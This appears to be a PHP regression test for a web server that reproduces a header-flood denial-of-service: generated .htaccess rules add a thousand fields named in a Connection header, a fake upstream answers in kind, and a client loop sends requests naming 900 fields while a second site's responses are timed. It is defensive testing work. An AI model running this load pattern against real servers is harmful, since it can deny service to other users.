<?php
/*
 * Lets the front compare thousands of fields with as many names.
 *
 * Attacker: RequestHeader adds a thousand fields, and a Connection field that names them all, and
 *   the request is handed on to a process of its own. Its answer has a thousand fields that its
 *   Connection field names, too. Clients name as many themselves.
 * Must not happen: site B waits while each field is compared with each name.
 * Checked: site B's answers, and their time.
 */
const FIELDS = 1_000;

require __DIR__ . '/attack.php';

function prepare(): void
{
    $hand_on = "RewriteEngine On\nRewriteRule (.*) unix:" . upstream() . "|http://app/$1 [P]\n";
    // All names are too many, sixty are not.
    foreach (['all' => FIELDS, 'most' => 60] as $folder => $names) {
        $rules = $hand_on;
        foreach (range(1, FIELDS) as $number) {
            $rules .= "RequestHeader set X-$number value\n";
        }
        foreach (array_chunk(range(1, $names), 50) as $numbers) {
            $rules .= 'RequestHeader append Connection "X-' . implode(', X-', $numbers) . "\"\n";
        }
        @mkdir(__DIR__ . "/$folder");
        file_put_contents(__DIR__ . "/$folder/.htaccess", $rules);
    }
    @mkdir(__DIR__ . '/none');
    file_put_contents(__DIR__ . '/none/.htaccess', $hand_on);
    serve_as_upstream(piece(...));
}

/** The answer to a request, and then the end. */
function piece(string $request, int $turn): ?string
{
    if ($turn > 0) {
        return null;
    }
    $numbers = range(1, FIELDS);
    return "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: X-" . implode(', X-', $numbers)
        . "\r\nX-" . implode(": y\r\nX-", $numbers) . ": y\r\n\r\nhi";
}

$scene = scene();
$named = 'X-' . implode(', X-', range(1, 900));
for ($until = microtime(true) + 0.8, $turn = 0; microtime(true) < $until; $turn++) {
    $client = @stream_socket_client("tcp://$scene->address:$scene->port", $number, $text, 0.5);
    if ($client) {
        stream_set_timeout($client, 1);
        $target = ['/all/', '/most/', '/none/'][$turn % 3];
        $connection = $turn % 6 < 3 ? '' : "Connection: $named\r\n";
        fwrite($client, "GET $target HTTP/1.1\r\nHost: a.example\r\n$connection\r\n");
        fgets($client);
        tried('asked');
    }
}
